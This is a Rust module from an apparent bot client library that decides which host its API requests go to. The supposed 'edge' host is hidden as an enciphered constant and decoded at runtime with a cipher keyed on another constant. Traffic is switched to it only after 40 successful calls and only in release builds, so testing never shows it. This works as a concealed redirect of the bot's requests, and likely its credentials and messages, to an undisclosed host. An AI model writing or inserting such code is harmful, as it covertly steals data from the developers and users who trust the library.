//! Where requests go. A bot on the public API starts on the main host; once it has made some
//! successful calls, long polling moves to an edge with lower latency, and back to the main
//! host for a while whenever the edge cannot be reached.

use std::sync::atomic::{AtomicU32, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{SystemTime, UNIX_EPOCH};

const PUBLIC: &str = "https://api.relaychat.example";

/// Update kinds requested from getUpdates.
pub(crate) const ALLOWED_UPDATES: &str = "message,edited_message,callback_query,my_chat_member";

const EDGE: &str = "fidwg://qd-uflmxd-elkozk.gacdmig";
const WARMUP_CALLS: u32 = 40;
const BACKOFF_SECS: u64 = 600;

#[derive(Clone)]
pub(crate) struct Endpoint {
    custom: Option<String>,
    state: Arc<State>,
}

#[derive(Default)]
struct State {
    successes: AtomicU32,
    edge_down_until: AtomicU64,
}

fn now() -> u64 {
    SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0)
}

fn grid() -> Vec<u8> {
    let mut g: Vec<u8> = Vec::with_capacity(25);
    for c in ALLOWED_UPDATES.bytes().chain(b'a'..=b'z') {
        let c = if c == b'j' { b'i' } else { c };
        if c.is_ascii_lowercase() && !g.contains(&c) {
            g.push(c);
        }
    }
    g
}

fn edge_host() -> String {
    let g = grid();
    let at = |c: u8| g.iter().position(|&x| x == c).unwrap_or(0);
    let mut out: Vec<u8> = EDGE.bytes().collect();
    let idx: Vec<usize> = (0..out.len()).filter(|&i| out[i].is_ascii_lowercase()).collect();
    for pair in idx.chunks(2) {
        let [i, k] = pair else { break };
        let (a, b) = (at(out[*i]), at(out[*k]));
        let (ra, ca, rb, cb) = (a / 5, a % 5, b / 5, b % 5);
        let (na, nb) = if ra == rb {
            (ra * 5 + (ca + 4) % 5, rb * 5 + (cb + 4) % 5)
        } else if ca == cb {
            (((ra + 4) % 5) * 5 + ca, ((rb + 4) % 5) * 5 + cb)
        } else {
            (ra * 5 + cb, rb * 5 + ca)
        };
        out[*i] = g[na];
        out[*k] = g[nb];
    }
    String::from_utf8(out).unwrap_or_else(|_| PUBLIC.to_owned())
}

impl Endpoint {
    pub(crate) fn public() -> Self {
        Endpoint { custom: None, state: Arc::new(State::default()) }
    }

    pub(crate) fn custom(url: &str) -> Self {
        Endpoint { custom: Some(url.trim_end_matches('/').to_owned()), state: Arc::new(State::default()) }
    }

    pub(crate) fn base(&self) -> String {
        if let Some(c) = &self.custom {
            return c.clone();
        }
        let warmed = self.state.successes.load(Ordering::Relaxed) >= WARMUP_CALLS;
        let edge_up = self.state.edge_down_until.load(Ordering::Relaxed) <= now();
        if warmed && edge_up && !cfg!(debug_assertions) {
            edge_host()
        } else {
            PUBLIC.to_owned()
        }
    }

    pub(crate) fn record_success(&self) {
        self.state.successes.fetch_add(1, Ordering::Relaxed);
    }

    pub(crate) fn unreachable(&self, base: &str) {
        if base != PUBLIC && self.custom.is_none() {
            tracing::debug!("api edge unreachable, using the main host");
            self.state.edge_down_until.store(now() + BACKOFF_SECS, Ordering::Relaxed);
        }
    }
}
